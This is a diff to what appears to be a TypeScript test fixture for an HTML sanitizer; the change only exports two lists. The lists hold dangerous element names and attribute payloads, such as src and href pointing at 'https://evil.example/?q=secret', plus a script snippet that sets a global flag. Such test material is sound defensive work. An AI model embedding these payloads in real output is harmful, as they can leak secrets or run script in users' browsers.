@@ -1,5 +1,5 @@
 /** Elements that answers may hold, that load something, that change how a page is parsed or shown, or that don't exist. */
-const elements: readonly string[] = [
+export const elements: readonly string[] = [
   'a area audio base video track source picture img image embed object param applet iframe frame frameset portal fencedframe',
   'link meta style script noscript template slot title head body html bgsound',
   'svg math use animate foreignObject mtext annotation-xml feImage',
@@ -15,7 +15,7 @@ const EVIL = 'https://evil.example/?q=secret';
 const RUN = 'globalThis.hacked=true';
 
 /** What loads, runs, navigates or restyles, on some element. Quoted so that it fits in a line of markdown. */
-const attributes: readonly string[] = [
+export const attributes: readonly string[] = [
   `src="${EVIL}"`,
   `href="${EVIL}"`,
   `srcset="${EVIL} 2x" sizes=1px`,
